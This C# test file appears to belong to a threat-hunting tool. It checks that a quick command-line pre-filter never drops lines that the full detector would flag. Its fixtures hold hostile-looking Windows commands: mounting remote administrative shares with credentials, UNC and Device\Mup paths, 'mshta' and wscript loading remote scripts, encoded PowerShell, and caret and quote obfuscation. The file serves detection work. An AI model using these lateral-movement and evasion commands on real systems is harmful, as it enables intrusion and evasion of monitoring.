using System;
using System.Collections.Generic;
using System.Linq;
using System.Text;
using TurlaHunt.Hunting.CommandLines;
using Xunit;

namespace TurlaHunt.Tests.Hunting.CommandLines;

/// <summary>What the glance refuses, reading finds harmless.</summary>
public sealed class LineScreenTests
{
    // Pieces that verdicts are made of, and what shells put between them.
    private static readonly string[] Pieces =
    [
        "\\", "\\\\", "/", "//", "?", "??", ".", ":", "UNC", "unc", "GLOBALROOT", "Device", "Mup", "LanmanRedirector", ";", "8.8.8.8",
        "10.1.2.3", "nas", "[2a00::1]", "c$", "x", "net", "use", "net use", "NET1.EXE", "http", "https", "file", "s", "p", "@", "^", "\"",
        "'", "`", " ", " ", "\t", "\u00A0", "cmd /c ", "powershell -c ", "-enc ", "copy ", "pushd ", "%x%", "!x!", ",", "=", "(", ")", "{",
        "}", "&", "|", "<", ">", "2>", "\\\"", "/user:a", "pw", "z:", "C:", "/i:", "-Root ", "start ", "\r\n", "$env:x", "root", "pipe",
    ];

    private static readonly string[] Beginnings =
    [
        @"net use \\8.8.8.8", @"net use http:", @"copy \\10.1.2.3\", @"net use //", @"cmd /c net use \", @"copy \??\UNC", @"type \\?\UNC\8.8.8.8",
        @"\Device\Mup\8.8.8.8", "powershell -c ls ", "mshta file:",
    ];

    [Theory]
    [InlineData(@"C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule")]
    [InlineData(@"""C:\Program Files\x\chrome.exe"" --type=renderer --url=https://example.com/a/b --user-data-dir=C:\u")]
    [InlineData(@"\??\C:\Windows\system32\conhost.exe 0xffffffff -ForceV1")]
    [InlineData(@"\SystemRoot\System32\smss.exe 000000d4 00000084")]
    [InlineData(@"x.exe \\.\pipe\chrome.1234 \\?\C:\a\b")]
    [InlineData(@"net user bob")]
    [InlineData(@"net use")]
    [InlineData(@"net use z: /delete")]
    [InlineData("")]
    [InlineData(@"\")]
    [InlineData(@"a\")]
    public void Ordinary_lines_end_at_the_glance(string line) => Assert.False(LineScreen.MayMatter(line), line);

    [Theory]
    [InlineData(@"net use \\8.8.8.8\x")]
    [InlineData(@"net use \^\8.8.8.8\x")]
    [InlineData(@"net use \""\8.8.8.8\x")]
    [InlineData(@"powershell net use \`\8.8.8.8\x")]
    [InlineData(@"net use http:/8.8.8.8")]
    [InlineData("n^e^t u^s^e\thttp^:^/8.8.8.8")]
    [InlineData("net use,https:\\8.8.8.8")]
    [InlineData(@"type \??\UNC\8.8.8.8\x")]
    [InlineData(@"type \?^?\^UNC\8.8.8.8\x")]
    [InlineData(@"type \\?\\globalroot\Device\Mup\8.8.8.8\x")]
    [InlineData(@"\Dev^ice\Mup\8.8.8.8\d$\x.exe")]
    [InlineData(@"mshta file://8.8.8.8/d$/x.hta")]
    [InlineData(@"wscript //8.8.8.8/d$/x.js")]
    [InlineData(@"x.exe -EncodedCommand bgBlAHQAIAB1AHMAZQA")]
    [InlineData(@"x.exe /^e bgBlAHQAIAB1AHMAZQAgAFwA")]
    public void What_reading_could_find_passes(string line) => Assert.True(LineScreen.MayMatter(line), line);

    [Fact]
    public void Random_lines_that_the_glance_refuses_come_to_nothing()
    {
        Random random = new(20190710);
        int refused = 0;
        int found = 0;
        for (int round = 0; round < 60_000; round++)
        {
            // Half of them start like something: pieces alone seldom come to anything.
            StringBuilder text = new(round % 2 == 0 ? "" : Beginnings[random.Next(Beginnings.Length)]);
            for (int i = random.Next(2, 14); i > 0; i--)
            {
                text.Append(Pieces[random.Next(Pieces.Length)]);
            }

            (int one, int other) = Check(text.ToString());
            refused += one;
            found += other;
        }

        Assert.True(refused > 10_000 && found > 1_000, $"{refused} refused, {found} found");
    }

    [Fact]
    public void Lines_of_the_campaign_with_pieces_pushed_in_are_never_lost()
    {
        string[] lines =
        [
            @"cmd.exe /c net use \\197.168.0.247\c$ pw /user:administrator & copy /y \\197.168.0.247\c$\i.js j.js",
            @"net use z: http://197.168.0.247/x pw", @"cmd /c pushd \\?\UNC\197.168.0.247\x", @"type \??\UNC\10.1.2.3\x",
            @"powershell -c New-PSDrive -Root '\\197.168.0.247\c$'", @"mshta file://8.8.8.8/d$/x.hta", @"copy \Device\Mup\8.8.8.8\d$\x y",
        ];
        Random random = new(20190711);
        int found = 0;
        for (int round = 0; round < 30_000; round++)
        {
            string line = lines[round % lines.Length];
            for (int i = random.Next(1, 4); i > 0; i--)
            {
                string piece = Pieces[random.Next(Pieces.Length)];
                line = line.Insert(random.Next(line.Length + 1), piece.Substring(0, 1));
            }

            found += Check(line).Found;
        }

        Assert.True(found > 5_000, $"{found} found");
    }

    [Fact]
    public void Known_lines_that_the_glance_refuses_come_to_nothing()
    {
        IEnumerable<string> vectors = LineVector.ReadAll(SharedData.Require("reference", "netuse-vectors.jsonl")).Select(item => item.CommandLine);
        Assert.All(vectors, line => Check(line));
    }

    [Fact]
    public void Lines_of_real_logs_that_the_glance_refuses_come_to_nothing()
    {
        HashSet<string> texts =
        [
            .. SharedData.RequireCorpus().SelectMany(file => ReadLog.Of(file).Records)
                .SelectMany(record => record.Data.Select(item => item.Value)).Where(text => text.Length is > 10 and < 4096),
        ];
        string[] refused = [.. texts.Where(text => !LineScreen.MayMatter(text))];
        Assert.All(refused, text => Assert.Equal(LineVerdict.None, CommandLine.Read(text).Verdict));
        Assert.True(refused.Length > 10_000 && texts.Count > refused.Length + 100, $"{refused.Length} of {texts.Count} refused");
    }

    private static (int Refused, int Found) Check(string line)
    {
        bool passes = LineScreen.MayMatter(line);
        bool matters = CommandLine.Read(line).Verdict != LineVerdict.None
            || CommandLine.Read(line, CommandLineFlavor.Sysmon, "net").Verdict != LineVerdict.None;
        Assert.True(passes || !matters, line);
        return (passes ? 0 : 1, matters ? 1 : 0);
    }
}
